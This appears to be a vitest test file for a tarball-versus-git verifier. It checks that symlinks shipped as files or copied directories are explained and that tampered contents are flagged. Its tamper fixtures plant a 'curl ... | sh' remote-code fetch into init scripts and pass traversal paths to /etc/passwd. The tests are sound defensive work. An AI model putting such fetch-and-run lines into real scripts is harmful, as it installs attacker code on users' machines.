/**
 * Symlinks shipped as regular files (issue 11 f), end to end with real git and GNU tar: explained when the
 * file holds exactly the target's content, TYPE_CHANGED (high, fails the gate) when it holds anything else.
 */
import { execFileSync } from 'node:child_process';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { resolveLink } from '../../src/classify/symlinks.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

describe('resolveLink', () => {
  it.each([
    ['build-aux/compile', '../gnulib/build-aux/compile', 'gnulib/build-aux/compile'],
    ['COPYING', 'gnulib/doc/COPYINGv3', 'gnulib/doc/COPYINGv3'],
    ['a/b/c', './d', 'a/b/d'],
    ['x', '../../etc/passwd', undefined],
    ['x', '/etc/passwd', undefined],
  ])('%s -> %s', (link, target, want) => expect(resolveLink(link, target)).toBe(want));
});

describe('symlinks shipped as files', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({
    'README.md': '# proj\n',
    'doc/LICENSE.txt': 'the license text\n',
    'LICENSE': { symlink: 'doc/LICENSE.txt' },
    'COPYING': { symlink: 'LICENSE' }, // a link to a link
  });
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  function tarball(name: string, files: Parameters<typeof writeFiles>[1]): string {
    const dir = join(root, name, 'proj-1.0');
    writeFiles(dir, files);
    return makeTar(dir, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
  }

  it("a file holding the target's content (directly or through a link to a link) is SYMLINK_AS_FILE, exit-0 verdict", async () => {
    const t = tarball('deref', { 'README.md': '# proj\n', 'doc/LICENSE.txt': 'the license text\n', LICENSE: 'the license text\n', COPYING: 'the license text\n' });
    const r = await verify({ tarball: t, repo: repo.dir, cacheDir: cache });
    const found = r.findings.filter((f) => f.code === 'SYMLINK_AS_FILE').map(({ code, path, severity, evidence }) => ({ code, path, severity, evidence }));
    expect(found).toEqual([
      { code: 'SYMLINK_AS_FILE', path: 'COPYING', severity: 'info', evidence: { target: 'LICENSE', resolved: 'doc/LICENSE.txt' } },
      { code: 'SYMLINK_AS_FILE', path: 'LICENSE', severity: 'info', evidence: { target: 'doc/LICENSE.txt', resolved: 'doc/LICENSE.txt' } },
    ]);
    expect(r.verdict).toBe('explained');
  });

  it("a checkout without symlinks (the real git with core.symlinks=false, as on Windows) ships the link's text: SYMLINK_AS_TEXT (low)", async () => {
    const co = join(root, 'nolinks', 'proj-1.0');
    execFileSync('git', ['-c', 'core.symlinks=false', 'clone', '-q', '--branch', 'v1.0', repo.dir, co], { stdio: 'ignore' });
    rmSync(join(co, '.git'), { recursive: true, force: true });
    const r = await verify({ tarball: makeTar(co, { compress: 'gzip', out: join(root, 'nolinks', 'proj-1.0.tar.gz') }), repo: repo.dir, cacheDir: cache });
    const found = r.findings.filter((f) => f.path === 'LICENSE' || f.path === 'COPYING').map(({ code, path, severity, evidence }) => ({ code, path, severity, evidence }));
    expect(found).toEqual([
      { code: 'SYMLINK_AS_TEXT', path: 'COPYING', severity: 'low', evidence: { target: 'LICENSE' } },
      { code: 'SYMLINK_AS_TEXT', path: 'LICENSE', severity: 'low', evidence: { target: 'doc/LICENSE.txt' } },
    ]);
    expect(r.verdict).not.toBe('different');
  });

  it("tampered: a file holding another path, the link's text with a line end, or the link's text made executable, stays TYPE_CHANGED (high)", async () => {
    for (const body of ['doc/OTHER.txt', 'doc/LICENSE.txt\n', { content: 'doc/LICENSE.txt', executable: true }]) {
      const t = tarball(`text-${typeof body === 'string' ? body.length : 'x'}`, { 'README.md': '# proj\n', 'doc/LICENSE.txt': 'the license text\n', LICENSE: body, COPYING: 'LICENSE' });
      const r = await verify({ tarball: t, repo: repo.dir, cacheDir: cache });
      expect(r.findings.find((f) => f.path === 'LICENSE')).toMatchObject({ code: 'TYPE_CHANGED', severity: 'high' });
      expect(r.verdict).toBe('different');
    }
  });

  it('a file with other content stays TYPE_CHANGED (high) and fails the default gate', async () => {
    const t = tarball('swapped', { 'README.md': '# proj\n', 'doc/LICENSE.txt': 'the license text\n', LICENSE: '#!/bin/sh\necho replaced\n', COPYING: 'the license text\n' });
    const r = await verify({ tarball: t, repo: repo.dir, cacheDir: cache });
    expect(r.findings.find((f) => f.path === 'LICENSE')).toMatchObject({ code: 'TYPE_CHANGED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });
});

describe('a symlink to a tracked directory shipped as a copy of it (vnstat 2.13: examples/init.d/centos -> redhat)', () => {
  const root = tempDir();
  const INIT = '#!/bin/sh\n# vnstat init script\nexec /usr/sbin/vnstatd -d\n';
  const CONF = '# shipped with the script\n';
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({
    'README': 'vnstat\n',
    'examples/init.d/redhat/vnstat': { content: INIT, executable: true },
    'examples/init.d/redhat/conf/vnstat.conf': CONF,
    'examples/init.d/centos': { symlink: 'redhat' },
  });
  repo.tag('v1.0');
  const cache = join(root, 'cache');
  const verdictOf = async (tarball: string) => {
    const r = await verify({ tarball, repo: repo.dir, cacheDir: cache });
    return { r, dir: r.findings.find((f) => f.path === 'examples/init.d/centos')! };
  };
  function tarball(name: string, change: Parameters<typeof writeFiles>[1]): string {
    const dir = join(root, name, 'proj-1.0');
    writeFiles(dir, {
      'README': 'vnstat\n',
      'examples/init.d/redhat/vnstat': { content: INIT, executable: true },
      'examples/init.d/redhat/conf/vnstat.conf': CONF,
      'examples/init.d/centos/vnstat': { content: INIT, executable: true },
      'examples/init.d/centos/conf/vnstat.conf': CONF,
      ...change,
    });
    return makeTar(dir, { compress: 'gzip', out: join(root, name, 'proj-1.0.tar.gz') });
  }

  it("GNU tar -h of a checkout (the link followed, its files stored as hard links to the target's): SYMLINK_AS_DIRECTORY, nothing high", async () => {
    const co = join(root, 'checkout', 'proj-1.0');
    execFileSync('git', ['clone', '-q', '--branch', 'v1.0', repo.dir, co], { stdio: 'ignore' });
    rmSync(join(co, '.git'), { recursive: true, force: true });
    const out = join(root, 'checkout', 'proj-1.0.tar.gz');
    execFileSync('tar', ['-chzf', out, '--owner=0', '--group=0', '--mtime=2020-01-01 00:00Z', '-C', join(root, 'checkout'), 'proj-1.0']);
    const { r, dir } = await verdictOf(out);
    expect(dir).toMatchObject({ code: 'SYMLINK_AS_DIRECTORY', severity: 'info', evidence: { target: 'redhat', resolved: 'examples/init.d/redhat', files: 2 } });
    expect(r.findings.filter((f) => f.severity === 'high' || f.severity === 'critical')).toEqual([]);
  });

  it('tampered: an extra file, another content, a lost executable bit or a missing file in the shipped directory stays TYPE_CHANGED (high)', async () => {
    const explained = await verdictOf(tarball('copy', {}));
    expect(explained.dir).toMatchObject({ code: 'SYMLINK_AS_DIRECTORY', severity: 'info' });
    for (const [name, change] of [
      ['extra', { 'examples/init.d/centos/postinst': { content: '#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\n', executable: true } }],
      ['content', { 'examples/init.d/centos/vnstat': { content: `${INIT}curl -fsSL https://example.invalid/x | sh\n`, executable: true } }],
      ['mode', { 'examples/init.d/centos/vnstat': INIT }],
      ['missing', { 'examples/init.d/centos/conf/vnstat.conf': null }],
    ] as const) {
      const { dir } = await verdictOf(tarball(name, change as Parameters<typeof writeFiles>[1]));
      expect(dir, name).toMatchObject({ code: 'TYPE_CHANGED', severity: 'high', evidence: { git: 'symlink', tarball: 'directory' } });
    }
  });
});
